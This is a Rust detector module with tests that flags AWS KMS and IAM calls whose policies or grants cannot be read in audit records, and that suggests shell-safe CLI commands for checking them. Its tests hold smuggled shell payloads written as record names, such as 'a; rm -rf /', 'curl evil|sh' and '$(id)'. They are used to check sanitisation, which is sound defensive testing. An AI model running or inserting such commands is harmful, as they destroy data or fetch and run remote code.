//! Finds calls that set a policy or a grant that cannot be read in the record.
//!
//! All other rules about policies and grants are blind to what such a call did. What must stay true:
//! a call that failed set nothing, so it gives no finding.

use std::borrow::Cow;

use crate::detect::native::shared::grant::Grant;
use crate::detect::native::shared::policy_document::{is_policy_hidden, key_of, list, unread};
use crate::detect::native::{Detector, Found};
use crate::model::level::Level;
use crate::record::event::Event;
use crate::record::hidden::HIDDEN;
use crate::record::kms::View;

/// See `rules/policy/policy-unreadable.md`.
#[derive(Debug)]
pub struct PolicyUnreadable;

impl Detector for PolicyUnreadable {
    fn check(&self, event: &Event<'_>, view: &View<'_>) -> Option<Found> {
        if view.attempt() {
            return None;
        }
        let found = |why: &str, unread| {
            Some(Found::at(Level::High).with("why", why).with("unread", list(unread)))
        };
        if is_policy_hidden(event, view) {
            return Some(hidden(event, view, "a policy", "policy"));
        }
        if view.is_kms() && view.hides_context() {
            return Some(hidden(event, view, "an encryption context", "encryption context"));
        }
        if let Some(unread) = unread(event, view) {
            let why = "the call set a policy, and nobody can see here what all of it says";
            return found(why, unread);
        }
        let grant = Grant::of(event, view)?;
        let (unread, of_aws) = (grant.unread(), grant.hidden());
        match (unread.is_empty(), of_aws.is_empty()) {
            (true, true) => None,
            (true, false) => Some(hidden(event, view, "a part of a grant", &of_aws.join(", "))),
            (false, _) => {
                let why = "the call made a grant, and nobody can see here what all of it says";
                let of_aws = of_aws.into_iter().map(hidden_member);
                found(why, unread.into_iter().chain(of_aws).collect())
            }
        }
    }
}

/// What is said of a member that AWS hides.
fn hidden_member(member: impl std::fmt::Display) -> String {
    format!("{member}: hidden by AWS")
}

/// A finding about what AWS hides: nothing is wrong with the record, and nobody can see here what it is.
fn hidden(event: &Event<'_>, view: &View<'_>, what: &str, member: &str) -> Found {
    let why = format!(
        "AWS hides {what} in this record (it writes {HIDDEN} instead), so no rule can judge it"
    );
    let unread = list([hidden_member(member)]);
    let found = Found::at(Level::Medium).with("why", why).with("unread", unread);
    match see(event, view) {
        Some(call) => found.with("see", call),
        None => found,
    }
}

/// The call that shows what is in force now, if one does. Names come from the record: what no shell would
/// take as one word is left out.
fn see(event: &Event<'_>, view: &View<'_>) -> Option<String> {
    let key = || word(key_of(event, view), "KEY");
    let of = |name: &str, stand_in: &str| {
        word(event.text_at(&["requestParameters", name]).map(Cow::into_owned), stand_in)
    };
    let inline = |kind: &str, member: &str| {
        let (holder, policy) = (of(member, "NAME"), of("policyName", "POLICY"));
        format!("aws iam get-{kind}-policy --{kind}-name {holder} --policy-name {policy}")
    };
    Some(match view.name()?.as_ref() {
        "CreateKey" | "PutKeyPolicy" | "ReplicateKey" => {
            format!("aws kms get-key-policy --policy-name default --key-id {}", key())
        }
        "CreateGrant" => format!("aws kms list-grants --key-id {}", key()),
        "PutRolePolicy" => inline("role", "roleName"),
        "PutUserPolicy" => inline("user", "userName"),
        "PutGroupPolicy" => inline("group", "groupName"),
        "CreatePolicy" | "CreatePolicyVersion" => {
            let (arn, version) = (of("policyArn", "ARN"), "VERSION");
            format!("aws iam get-policy-version --policy-arn {arn} --version-id {version}")
        }
        _ => return None,
    })
}

/// A name from a record as a word of a command; what stands in for it, if a shell would take it for more.
fn word(name: Option<String>, stand_in: &str) -> String {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_.:/=+@,-".contains(&byte);
    let fits = |name: &String| {
        (1..=256).contains(&name.len()) && !name.starts_with('-') && name.bytes().all(plain)
    };
    name.filter(fits).unwrap_or_else(|| stand_in.to_owned())
}

#[cfg(test)]
mod tests {
    use serde_json::{Value, json};

    use super::*;
    use crate::detect::native::testing::detector::found;
    use crate::detect::native::testing::recorded::{KEY, call, refused};

    /// What could not be read, as the finding says.
    fn told(record: &Value) -> Option<String> {
        let found = found(&PolicyUnreadable, record)?;
        assert_eq!(found.level, Level::High);
        Some(found.details["unread"][0].as_str().unwrap().to_owned())
    }

    fn kms(name: &str, request: &Value) -> Value {
        call("2026-11-02T10:00:00Z", "alice", name, KEY, request)
    }

    #[test]
    fn policies_that_are_missing_or_odd() {
        let sound = r#"{"Statement": []}"#;
        for (name, policy, unread) in [
            ("PutKeyPolicy", json!(sound), None),
            ("PutKeyPolicy", json!({"Statement": []}), None),
            ("PutKeyPolicy", json!(null), Some("the record does not hold it")),
            ("PutKeyPolicy", json!(" "), Some("the record does not hold it")),
            ("PutKeyPolicy", json!(7), Some("it is no object with statements")),
            ("PutKeyPolicy", json!("{"), Some("it is no JSON: it ends in the middle, at byte 1")),
            ("CreateKey", json!(null), None),
            ("CreateKey", json!(""), None),
            ("CreateKey", json!("x"), Some("it is no object with statements")),
            ("ReplicateKey", json!("x"), Some("it is no object with statements")),
            ("GetKeyPolicy", json!("x"), None),
        ] {
            let record = kms(name, &json!({"keyId": KEY, "policy": policy}));
            assert_eq!(told(&record).as_deref(), unread, "{name} {policy}");
            assert_eq!(told(&refused(record)), None, "{name} {policy}");
        }
        let mut response = kms("ReplicateKey", &json!({"keyId": KEY}));
        assert_eq!(told(&response), None);
        response["responseElements"] = json!({"replicaPolicy": "x"});
        assert!(told(&response).is_some());
        let omitted = kms("PutKeyPolicy", &json!({"omitted": true}));
        assert_eq!(told(&omitted), None, "record-truncated tells of it");
        let mut nowhere = kms("PutKeyPolicy", &json!({"keyId": "1234", "policy": sound}));
        nowhere["recipientAccountId"] = json!(null);
        nowhere["resources"] = json!(null);
        assert!(told(&nowhere).is_some_and(|told| told.contains("in which account")));
    }

    #[test]
    fn what_aws_hides_is_told_as_hidden_and_not_as_broken() {
        let of_iam = |name: &str, request: Value| {
            let mut record = kms(name, &request);
            record["eventSource"] = json!("iam.amazonaws.com");
            record
        };
        let context = json!({"encryptionContext": HIDDEN});
        let source = json!({"sourceEncryptionContext": HIDDEN});
        let grant = json!({"granteePrincipal": "arn:aws:iam::111122223333:role/app",
            "operations": ["Decrypt"], "constraints": HIDDEN});
        let in_role = json!({"roleName": "app", "policyName": "own", "policyDocument": HIDDEN});
        let hostile =
            json!({"roleName": "a; rm -rf /", "policyName": "-x", "policyDocument": HIDDEN});
        let key_policy = format!("aws kms get-key-policy --policy-name default --key-id {KEY}");
        let grants = format!("aws kms list-grants --key-id {KEY}");
        for (record, what, see) in [
            (kms("PutKeyPolicy", &json!({"policy": HIDDEN})), "policy", Some(&*key_policy)),
            (kms("CreateKey", &json!({"policy": HIDDEN})), "policy", Some(&key_policy)),
            (kms("Decrypt", &context), "encryption context", None),
            (kms("ReEncrypt", &source), "encryption context", None),
            (kms("CreateGrant", &grant), "constraints", Some(&grants)),
            (
                of_iam("PutRolePolicy", in_role),
                "policy",
                Some("aws iam get-role-policy --role-name app --policy-name own"),
            ),
            (
                of_iam("PutRolePolicy", hostile),
                "policy",
                Some("aws iam get-role-policy --role-name NAME --policy-name POLICY"),
            ),
        ] {
            let found = found(&PolicyUnreadable, &record).unwrap_or_else(|| panic!("{record}"));
            assert_eq!(found.level, Level::Medium, "nobody but AWS can do that");
            assert_eq!(found.details["unread"], json!([format!("{what}: hidden by AWS")]));
            assert!(found.details["why"].as_str().unwrap().contains("AWS hides"));
            assert_eq!(found.details.get("see").and_then(Value::as_str), see, "{record}");
            assert_eq!(told_of(&refused(record)), None);
        }
        let quoted =
            kms("Encrypt", &json!({"encryptionContext": {"note": format!("not {HIDDEN}")}}));
        assert!(told_of(&quoted).is_none(), "a text that only names it");
    }

    #[test]
    fn no_command_runs_what_a_record_calls_a_key() {
        for key in [
            "arn:aws:kms:eu-central-1:111122223333:key/x; curl evil|sh",
            "arn:aws:kms:eu-central-1:111122223333:key/$(id)",
            "arn:aws:kms:eu-central-1:111122223333:key/x\nid",
            "arn:aws:kms:eu-central-1:111122223333:key/x --region=other",
        ] {
            let grant = json!({"keyId": key, "constraints": HIDDEN});
            for (name, request, see) in [
                (
                    "PutKeyPolicy",
                    json!({"keyId": key, "policy": HIDDEN}),
                    "aws kms get-key-policy --policy-name default --key-id KEY",
                ),
                ("CreateGrant", grant, "aws kms list-grants --key-id KEY"),
            ] {
                let record = call("2026-11-02T10:00:00Z", "alice", name, key, &request);
                assert_eq!(told_of(&record).unwrap().details["see"], see, "{key}");
            }
        }
    }

    #[test]
    fn the_policy_of_a_replica_is_seen_at_the_replica() {
        let replica = KEY.replace("eu-central-1", "us-east-1");
        let mut record = kms("ReplicateKey", &json!({"keyId": KEY, "policy": HIDDEN}));
        record["responseElements"] = json!({"replicaKeyMetadata": {"arn": replica}});
        let see = format!("aws kms get-key-policy --policy-name default --key-id {replica}");
        assert_eq!(told_of(&record).unwrap().details["see"], json!(see));
    }

    #[test]
    fn what_aws_hides_within_a_grant_is_told() {
        let constraints = |context: Value| json!({"constraints": context});
        let subset = "constraints.encryptionContextSubset";
        for (request, member) in [
            (constraints(json!({"encryptionContextSubset": HIDDEN})), subset),
            (constraints(json!({"encryptionContextSubset": {"a": "b", "tenant": HIDDEN}})), subset),
            (constraints(json!({"sourceArn": HIDDEN})), "constraints.sourceArn"),
            (constraints(json!({"other": HIDDEN})), "constraints"),
            (json!({"retiringPrincipal": HIDDEN}), "retiringPrincipal"),
            (json!({"operations": ["Decrypt", HIDDEN]}), "operations"),
        ] {
            let found =
                told_of(&kms("CreateGrant", &request)).unwrap_or_else(|| panic!("{request}"));
            assert_eq!(found.level, Level::Medium);
            assert_eq!(found.details["unread"], json!([format!("{member}: hidden by AWS")]));
        }
        // What is broken is told beside what is hidden.
        let both = json!({"operations": "Decrypt", "retiringPrincipal": HIDDEN});
        let both = told_of(&kms("CreateGrant", &both)).unwrap();
        assert_eq!(both.level, Level::High);
        let unread = ["operations is not a list of text", "retiringPrincipal: hidden by AWS"];
        assert_eq!(both.details["unread"], json!(unread));
    }

    fn told_of(record: &Value) -> Option<Found> {
        found(&PolicyUnreadable, record)
    }

    #[test]
    fn policies_of_iam() {
        for (name, request, expected) in [
            ("PutUserPolicy", json!({"policyDocument": "{\"Statement\":[]}"}), false),
            ("PutUserPolicy", json!({"policyDocument": "{\"Statement\":[7]}"}), true),
            ("CreatePolicyVersion", json!({"policyDocument": "%7B"}), true),
            ("CreatePolicy", json!(null), true),
            ("CreatePolicy", json!({"omitted": true}), false),
            ("DeleteUserPolicy", json!({"policyDocument": "x"}), false),
        ] {
            let mut record = kms(name, &request);
            record["eventSource"] = json!("iam.amazonaws.com");
            assert_eq!(told(&record).is_some(), expected, "{name} {request}");
        }
    }

    #[test]
    fn grants() {
        let role = "arn:aws:iam::111122223333:role/app";
        for (request, unread) in [
            (json!({"granteePrincipal": role, "operations": ["Decrypt"]}), None),
            (json!({"granteePrincipal": role, "constraints": null}), None),
            (json!(null), None),
            (json!({"granteePrincipal": [role]}), Some("granteePrincipal is not text")),
            (json!({"operations": "Decrypt"}), Some("operations is not a list of text")),
            (json!({"operations": [["Decrypt"]]}), Some("operations is not a list of text")),
            (json!({"constraints": "{}"}), Some("constraints is not an object")),
            (json!({"retiringPrincipal": {}}), Some("retiringPrincipal is not text")),
        ] {
            let record = kms("CreateGrant", &request);
            assert_eq!(told(&record).as_deref(), unread, "{request}");
        }
    }
}
